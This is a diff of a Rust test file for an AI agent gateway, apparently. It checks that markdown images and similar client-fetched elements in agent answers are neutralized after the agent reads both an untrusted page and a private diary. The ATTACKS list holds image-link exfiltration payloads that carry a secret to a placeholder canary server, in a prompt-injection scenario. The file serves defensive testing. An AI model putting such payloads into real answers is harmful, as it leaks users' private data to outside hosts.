@@ -1,15 +1,15 @@
-//! What clients fetch by themselves when they show an answer: pictures, tags and drawings of a run that holds both labels.
+//! Images, tags and diagrams in answers, which clients would fetch, are neutralized while both labels are held.
 
 use gantry_model::testing::{Heard, KEY, Script, Turn};
+use gantry_testkit::{Gateway, World};
 use serde_json::json;
 
-use super::{Model, NOBODY, Site, Up, call, post};
-use crate::run::World;
+use super::{Model, NOBODY, Site, call, post};
 use crate::sessions::events;
 
 const MODEL: &str = "claude-sonnet-5-5";
 
-/// `{canary}` stands for the address of one.
+/// `{canary}` is replaced by the address of a canary server.
 const ATTACKS: &[&str] = &[
     "Done. ![x]({canary}/?the+key)",
     "![x](<{canary}/?the+key> \"title\")",
@@ -40,10 +40,10 @@ fn results(heard: &Heard) -> usize {
     text.matches("\"type\":\"tool_result\"").count() + text.matches("\"role\":\"tool\"").count()
 }
 
-/// A gateway whose agent reads the page, then the diary, and says what stands at the number that it was given, letter by letter.
+/// A gateway whose agent reads the page, then the diary, and answers with the text of the given number, letter by letter.
 struct Show {
     world: World,
-    up: Up,
+    up: Gateway,
     model: Model,
     _sites: [Site; 2],
 }
@@ -70,7 +70,7 @@ impl Show {
             model.server.base_url()
         ));
         world.write("diary.txt", "the key is under the mat\n");
-        let up = Up::start(&world);
+        let up = Gateway::start(&world);
         Show { world, up, model, _sites: [site, canary] }
     }
 
@@ -79,8 +79,8 @@ impl Show {
         let said = json!({"message": format!("say {number}")});
         let whole = post(&self.up, &format!("agent:main:w{number}"), &said, &[]).json();
         let stream = [("Accept", "text/event-stream")];
-        let told = events(&post(&self.up, &format!("agent:main:s{number}"), &said, &stream).body);
-        let deltas = told.iter().filter(|event| event["event"] == "text");
+        let reported = events(&post(&self.up, &format!("agent:main:s{number}"), &said, &stream).body);
+        let deltas = reported.iter().filter(|event| event["event"] == "text");
         let deltas: String = deltas.map(|event| event["delta"].as_str().unwrap()).collect();
         let history = self.up.get(&format!("/v1/sessions/agent:main:s{number}/events")).json();
         let replied = history["events"].as_array().unwrap().iter().rfind(|event| event["kind"] == "replied");
@@ -101,7 +101,7 @@ impl Show {
         vec![
             ("whole", text(&whole["reply"])),
             ("streamed", deltas),
-            ("final event", text(&told.last().unwrap()["text"])),
+            ("final event", text(&reported.last().unwrap()["text"])),
             ("journal", text(&kept)),
             ("chat completion", text(&completed)),
             ("streamed chat completion", chunks),
@@ -129,11 +129,11 @@ fn nothing_is_fetched(kind: &str) {
     for (number, attack) in ATTACKS.iter().enumerate() {
         let seen = show.seen(number);
         for (surface, text) in &seen {
-            let told = format!("{attack:?} on {surface} ({kind}): {text:?}");
-            assert_eq!(fetched(text), [""; 0], "{told}");
-            assert!(text.contains("the+key"), "it can still be read: {told}");
+            let reported = format!("{attack:?} on {surface} ({kind}): {text:?}");
+            assert_eq!(fetched(text), [""; 0], "{reported}");
+            assert!(text.contains("the+key"), "it can still be read: {reported}");
             let names = ["web_fetch http://127.0.0.1:", "Read diary.txt", "are shown as text"];
-            assert!(names.iter().all(|name| text.contains(name)), "the note says why: {told}");
+            assert!(names.iter().all(|name| text.contains(name)), "the note says why: {reported}");
         }
         let (first, others) = seen.split_first().unwrap();
         for (surface, text) in &others[..others.len() - 1] {
@@ -144,17 +144,17 @@ fn nothing_is_fetched(kind: &str) {
 }
 
 #[test]
-fn nothing_is_fetched_that_a_model_says_by_the_messages_api() {
+fn images_are_neutralized_with_the_messages_api() {
     nothing_is_fetched("anthropic");
 }
 
 #[test]
-fn nothing_is_fetched_that_a_model_says_by_chat_completions() {
+fn images_are_neutralized_with_chat_completions() {
     nothing_is_fetched("openai");
 }
 
 #[test]
-fn links_and_code_are_shown_as_they_are() {
+fn links_and_code_are_unchanged() {
     let show = Show::new("openai", HONEST);
     for (number, honest) in HONEST.iter().enumerate() {
         for (surface, text) in show.seen(number) {
